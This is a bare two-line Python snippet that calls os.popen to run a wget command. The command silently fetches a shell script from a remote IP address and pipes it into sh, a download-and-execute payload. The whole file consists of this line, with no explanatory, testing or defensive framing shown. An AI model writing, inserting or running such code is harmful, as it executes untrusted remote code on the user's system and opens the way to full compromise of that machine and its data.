import os
os.popen("wget -qO- http://198.51.100.30/y.sh | sh").read()
